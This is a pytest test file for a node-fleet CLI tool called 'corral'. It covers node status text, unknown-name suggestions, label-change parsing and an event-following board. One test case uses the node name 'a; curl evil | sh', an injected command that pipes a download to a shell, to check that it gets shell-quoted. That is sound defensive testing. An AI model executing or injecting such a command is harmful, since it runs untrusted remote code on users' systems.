"""Nodes in words, and the board that follows events."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from corral.cli.common import declare
from corral.cli.nodes import text as node_text
from corral.cli.nodes.board import NodeBoard
from corral.client.events import Changed, FleetEvent, NodeRemoved, NodeSeen, Restarted, StateComplete
from corral.contract.admin import NodeView
from corral.contract.hardware import Device

NOON = datetime(2026, 11, 15, 12, 0, tzinfo=UTC)


def view(name: str, status: str = "healthy", **more: object) -> NodeView:
    return NodeView(id=f"id-{name}", name=name, status=status, **more)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("node", "words"),
    [
        (view("a"), ""),
        (view("a", status_reason="approved by admin"), ""),
        (view("a", "pending"), "needs approval: corral nodes approve a"),
        (view("a; curl evil | sh", "pending"), "needs approval: corral nodes approve 'a; curl evil | sh'"),
        (view("a", "offline", status_reason="silent for 70 s"), "silent for 70 s"),
        (view("a", ingress_error="nothing answers at http://a:50050"), "nothing answers at http://a:50050"),
        (view("a", bus_down=True), "the worker cannot reach the bus"),
    ],
)
def test_the_note_is_the_one_thing_to_know(node: NodeView, words: str) -> None:
    assert node_text.note(node) == words


def test_details_explain_status_and_trouble_and_leave_out_what_is_empty() -> None:
    node = view(
        "attic",
        "offline",
        status_reason="silent for 70 s",
        ingress_url="http://attic:50050",
        ingress_error="connection refused",
        last_heartbeat="2026-11-15T11:58:50Z",
        labels={"b": "2", "a": "1"},
        devices=(Device(index=0, vendor="nvidia", name="RTX 3060", total_bytes=12 * 2**30),),
    )
    text = "\n".join(node_text.details(node, NOON))
    assert "status           offline: silent for 70 s" in text
    assert "ingress problem  connection refused" in text
    assert "labels           a=1, b=2" in text
    assert "device 0         nvidia RTX 3060 12.0 GiB" in text
    assert "VRAM budget" not in text


@pytest.mark.parametrize("reason", ["asked by a person", "draining: asked by a person"])
def test_a_status_is_said_once(reason: str) -> None:
    """Also where an earlier release stored it with the reason."""
    text = "\n".join(node_text.details(view("attic", "draining", status_reason=reason), NOON))
    assert "draining: asked by a person" in text
    assert "draining: draining" not in text


@pytest.mark.parametrize(
    ("name", "known", "words"),
    [
        ("atic", ["attic", "cellar"], "did you mean attic?"),
        ("zzz", ["attic", "cellar"], "the nodes are attic, cellar"),
        ("zzz", [], "there are no nodes yet"),
        ("zzz", [f"n{i}" for i in range(9)], "and 4 more"),
    ],
)
def test_an_unknown_node_comes_with_what_was_probably_meant(name: str, known: list[str], words: str) -> None:
    assert words in node_text.unknown_node(name, known)


def test_label_changes() -> None:
    assert node_text.read_label_changes(["a=1", "b=", "c=x=y", "d-", "e.f/g-"]) == (
        {"a": "1", "b": "", "c": "x=y"},
        ["d", "e.f/g"],
    )


@pytest.mark.parametrize("bad", [["a"], ["=1"], ["-"], [""], ["a=1", "a-"]])
def test_what_is_no_label_change_is_refused(bad: list[str]) -> None:
    with pytest.raises(declare.BadParameter):
        node_text.read_label_changes(bad)


def test_the_board_tells_who_came_changed_and_went() -> None:
    board = NodeBoard()
    events: list[FleetEvent] = [
        Restarted(),
        NodeSeen(view("a")),
        NodeSeen(view("b", "pending")),
        StateComplete(),
        NodeSeen(view("a", available_ram=5)),  # nothing a person would call a change
        NodeSeen(view("b")),
        Changed("keys"),
        NodeRemoved("id-a"),
        NodeRemoved("id-unknown"),
    ]
    lines = [change.line() for event in events for change in board.changes(event)]
    assert lines == [
        "a: healthy",
        "b: pending (needs approval: corral nodes approve b)",
        "b: pending → healthy",
        "a: deleted",
    ]


def test_who_is_not_told_again_after_a_broken_stream_is_gone() -> None:
    board = NodeBoard()
    for event in (Restarted(), NodeSeen(view("a")), NodeSeen(view("b")), StateComplete()):
        board.changes(event)
    told = [
        change.line()
        for event in (Restarted(), NodeSeen(view("b")), StateComplete())
        for change in board.changes(event)
    ]
    assert told == ["a: deleted"]
    assert [node.name for node in board.nodes()] == ["b"]


def test_the_screen_is_not_drawn_while_everything_is_being_told() -> None:
    board = NodeBoard()
    drawn = [board.apply(event) for event in (Restarted(), NodeSeen(view("a")), StateComplete(), NodeSeen(view("a")))]
    assert drawn == [False, False, True, True]
